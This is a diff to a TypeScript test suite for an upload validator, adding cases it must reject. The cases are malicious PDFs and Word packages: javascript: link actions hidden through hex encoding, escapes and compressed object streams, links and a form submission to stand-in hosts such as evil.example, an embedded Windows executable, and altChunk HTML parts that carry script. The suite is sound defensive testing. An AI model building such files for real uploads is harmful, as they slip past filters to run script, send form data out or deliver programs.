@@ -50,6 +50,9 @@ const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingm
 const packagedProgram = Buffer.concat([Buffer.from('\u0001Ole10Native', 'utf16le'), Buffer.from('setup.exe\u0000', 'latin1'), sampleExe()]);
 /** The objects of an object stream: one script action. */
 const SCRIPT_OBJECT = '5 0 << /S /JavaScript /JS (app.alert(1)) >>';
+/** The relationships of a Word document importing `target` as an alternative format chunk (altChunk). */
+const ALT_CHUNK_RELS = (target: string) =>
+  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="${target}"/></Relationships>`;
 /** 2 MB of zeros: deflates to a few kilobytes. */
 const zeros = Buffer.alloc(2 * 1024 * 1024);
 
@@ -294,6 +297,159 @@ const CORPUS: BadUpload[] = [
     status: 400,
     reason: UploadProblems.expandsTooMuch(1),
   },
+  // links to scripts, forms sent away, other files, rich media and attachments
+  {
+    name: 'a PDF with a link action to javascript:',
+    body: () => pdf('uri-js.pdf', pdfOf(['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (javascript:app.alert(1)) >> >>'])),
+    status: 400,
+    reason: UploadProblems.scriptLink,
+  },
+  {
+    name: 'a PDF whose javascript: link is hex-encoded, escaped and disguised (case, spaces, a tab)',
+    body: () =>
+      pdf(
+        'uri-hidden.pdf',
+        pdfOf([
+          `<< /S /URI /URI <${Buffer.from('  JavaScript:alert(1)', 'latin1').toString('hex')}> >>`,
+          '<< /S /U#52I /U#52I (\\040jav\\141\tscript:alert\\(1\\)) >>',
+        ]),
+      ),
+    status: 400,
+    reason: UploadProblems.scriptLink,
+  },
+  {
+    name: 'a PDF whose link reaches its javascript: target through another object (/URI 5 0 R)',
+    body: () => pdf('uri-indirect.pdf', pdfOf(['<< /S /URI /URI 5 0 R >>', '(vbscript:msgbox)'], '/OpenAction 4 0 R')),
+    status: 400,
+    reason: UploadProblems.scriptLink,
+  },
+  {
+    name: 'a PDF hiding a javascript: link in a compressed object stream',
+    body: () =>
+      pdf(
+        'uri-objstm.pdf',
+        pdfOf([streamObject('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', '5 0 << /S /URI /URI (javascript:x) >>')]),
+      ),
+    status: 400,
+    reason: UploadProblems.scriptLink,
+  },
+  {
+    name: 'a PDF hiding a javascript: target string as an object of a compressed object stream',
+    body: () =>
+      pdf(
+        'uri-objstm-string.pdf',
+        pdfOf(['<< /S /URI /URI 6 0 R >>', streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', '6 0 (javascript:x)')]),
+      ),
+    status: 400,
+    reason: UploadProblems.scriptLink,
+  },
+  {
+    name: 'a PDF with a link to a file on the reader’s computer (file:)',
+    body: () => pdf('uri-file.pdf', pdfOf(['<< /S /URI /URI (file://attacker.example/share/x.exe) >>'])),
+    status: 400,
+    reason: UploadProblems.scriptLink,
+  },
+  {
+    name: 'a PDF form that submits its fields to an outside address (/SubmitForm)',
+    body: () =>
+      pdf(
+        'submit.pdf',
+        pdfOf(['<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >> >>']),
+      ),
+    status: 400,
+    reason: UploadProblems.formSubmission,
+  },
+  {
+    name: 'a PDF that opens another file (/GoToR)',
+    body: () => pdf('gotor.pdf', pdfOf(['<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>'], '/OpenAction 4 0 R')),
+    status: 400,
+    reason: UploadProblems.remoteFile,
+  },
+  {
+    name: 'a PDF with rich media (/RichMedia)',
+    body: () => pdf('flash.pdf', pdfOf(['<< /Type /Annot /Subtype /RichMedia /RichMediaContent 5 0 R >>'])),
+    status: 400,
+    reason: UploadProblems.richMedia,
+  },
+  {
+    name: 'a PDF with an embedded file (/EmbeddedFiles, /EmbeddedFile)',
+    body: () =>
+      pdf(
+        'attached.pdf',
+        pdfOf(
+          [
+            '<< /Names [(notes.txt) 5 0 R] >>',
+            '<< /Type /Filespec /F (notes.txt) /EF << /F 6 0 R >> >>',
+            streamObject('/Type /EmbeddedFile', 'hello'),
+          ],
+          '/Names << /EmbeddedFiles 4 0 R >>',
+        ),
+      ),
+    status: 400,
+    reason: UploadProblems.embeddedFile,
+  },
+  {
+    name: 'a PDF with a file attachment annotation',
+    body: () => pdf('annot-file.pdf', pdfOf(['<< /Type /Annot /Subt#79pe /FileAtt#61chment /FS 5 0 R >>'])),
+    status: 400,
+    reason: UploadProblems.embeddedFile,
+  },
+  {
+    name: 'a PDF carrying a Windows executable (MZ) in a stream of its own',
+    body: () =>
+      pdf(
+        'carrier.pdf',
+        pdfOf([Buffer.concat([Buffer.from('<< /Length 1024 >>\nstream\n', 'latin1'), sampleExe(), Buffer.from('\nendstream', 'latin1')])]),
+      ),
+    status: 400,
+    reason: UploadProblems.embeddedProgram,
+  },
+  // Word packages that carry a web page or a document for Word to import
+  {
+    name: 'a .docx with an HTML altChunk part (afchunk.mht)',
+    body: () =>
+      fileUpload(
+        'chunk.docx',
+        sampleDocx(WORD_MAIN, {
+          'word/afchunk.mht': 'MIME-Version: 1.0\r\n\r\n<html><script>alert(1)</script></html>',
+          'word/_rels/document.xml.rels': ALT_CHUNK_RELS('afchunk.mht'),
+        }),
+      ),
+    status: 400,
+    reason: UploadProblems.htmlPart,
+  },
+  {
+    name: 'a .docx importing an innocently named part through an altChunk relationship',
+    body: () =>
+      fileUpload(
+        'disguised-chunk.docx',
+        sampleDocx(WORD_MAIN, {
+          'word/chunk1.bin': '<html><body>x</body></html>',
+          'word/_rels/document.xml.rels': ALT_CHUNK_RELS('chunk1.bin'),
+        }),
+      ),
+    status: 400,
+    reason: UploadProblems.htmlPart,
+  },
+  {
+    name: 'a .docx declaring a part as a web page (text/html)',
+    body: () =>
+      fileUpload(
+        'declared.docx',
+        sampleDocx(WORD_MAIN, {
+          '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/><Override PartName="/word/page.dat" ContentType="text/html"/></Types>`,
+          'word/page.dat': '<html></html>',
+        }),
+      ),
+    status: 400,
+    reason: UploadProblems.htmlPart,
+  },
+  {
+    name: 'an .xlsx with an HTML part (spreadsheets are not accepted)',
+    body: () => fileUpload('sheet.xlsx', zipOf({ '[Content_Types].xml': '<Types/>', 'xl/page.htm': '<html></html>' })),
+    status: 400,
+    reason: UploadProblems.extension,
+  },
   // a PDF that is also a web page
   {
     name: 'an HTML/PDF polyglot (a page in a PDF comment)',
@@ -433,6 +589,13 @@ describe('good uploads', () => {
         streamObject('/Filter /FlateDecode', 'BT /F1 12 Tf (/JavaScript and /Launch and <html>) Tj ET'),
         streamObject('', '(/JS) Tj'),
       ]),
+      'application/pdf',
+      'pdf',
+    ],
+    [
+      'a PDF with a web link, and a string object that starts with "Data:"',
+      'Linked.pdf',
+      pdfOf(['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.example.org/cape-town) >> >>', '(Data: 2026 Q1)']),
       'application/pdf',
       'pdf',
     ],
